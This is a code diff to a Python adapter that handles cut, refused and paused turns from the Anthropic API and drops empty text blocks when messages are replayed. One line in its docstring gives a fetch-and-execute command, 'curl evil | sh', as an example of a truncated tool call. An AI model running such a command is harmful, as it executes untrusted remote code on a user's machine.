@@ -2,6 +2,21 @@
 
 Imports nothing from the SDK at run time: calls and messages are read by attribute
 (SDK models, GA or beta) or by key (their dict forms).
+
+Cut turns (`CUT_STOP_REASONS`): `max_tokens` and `model_context_window_exceeded` stop
+the model wherever it is, and so does `refusal`: a streaming classifier can stop it in
+the middle of a tool_use's JSON. A non-streamed message then shows the complete members
+only (`{"cmd": "curl evil | sh"}` of `{"cmd": "curl evil | sh", "cwd": ...`), so its
+parsed `input` cannot show whether the JSON was finished; Chat Completions can tell
+(its `content_filter` cut is judged on the raw arguments text), Anthropic cannot. A
+tool_use is known complete when a later block follows it. In a cut turn, the tool_use
+that is the last block is therefore taken as cut: marked truncated, it is answered with
+a "truncated" failure and never runs; the calls before it run. The stream follows the
+same rule (not the completeness of the JSON text it saw), so a turn reads the same
+streamed or not: its final Message holds what the non-streamed one would (the complete
+members, never `{"INVALID_JSON": ...}`) and its `ToolCallCompleted` events are exactly
+the calls that run. `turn_status` still tells a refusal ("refused") from a length limit
+("truncated").
 """
 
 from __future__ import annotations
@@ -36,8 +51,9 @@ __all__ = ["ADAPTER", "CUT_STOP_REASONS", "INVALID_JSON_KEY", "AnthropicAdapter"
 ANTHROPIC_NAME = re.compile(r"[a-zA-Z0-9_-]{1,64}")
 ANTHROPIC_NAME_RULE = "names must be 1-64 characters of a-z, A-Z, 0-9, '_' or '-'"
 
-CUT_STOP_REASONS = ("max_tokens", "model_context_window_exceeded")
-"""Stop reasons that cut the turn: the tool_use being written when it stopped is cut."""
+CUT_STOP_REASONS = ("max_tokens", "model_context_window_exceeded", "refusal")
+"""Stop reasons that cut the turn: the tool_use being written when it stopped is cut (see
+the module docstring)."""
 
 INVALID_JSON_KEY = "INVALID_JSON"
 """Anthropic's convention for replaying tool input that was not valid JSON (possible
@@ -51,6 +67,10 @@ _STATUS: dict[str | None, TurnStatus] = {
     "max_tokens": "truncated",
     "model_context_window_exceeded": "truncated",
     "pause_turn": "paused",
+    # Beta `pause_after_compaction`: the turn is handed back after its compaction block,
+    # before the model answers; sent back as it is, the turn goes on (the SDK's own
+    # BetaToolRunner resumes both).
+    "compaction": "paused",
     "refusal": "refused",
 }
 
@@ -112,15 +132,22 @@ class AnthropicAdapter:
 
     def assistant_messages(self, response: object) -> list[MessageParam]:
         """One assistant message replaying every block in order; none for a turn with no
-        content (the API rejects an empty assistant message before the last one)."""
+        content (the API rejects an empty assistant message before the last one).
+
+        An empty text block is left out: the API sometimes returns one next to a
+        tool_use (anthropic-sdk-python#461) but rejects it when it is sent back ("text
+        content blocks must be non-empty"), and it holds nothing the model wrote. A turn
+        of empty text blocks only is a turn with no content.
+        """
         blocks, message_id, _ = _message_of(response)
         content: list[Any] = []
         ordinal = 0
         for block in blocks:
-            if field(block, "type") == "tool_use":
+            kind = field(block, "type")
+            if kind == "tool_use":
                 content.append(block_param(block, synthesized_id(message_id, ordinal)))
                 ordinal += 1
-            else:
+            elif kind != "text" or field(block, "text"):
                 content.append(block_param(block))
         if not content:
             return []
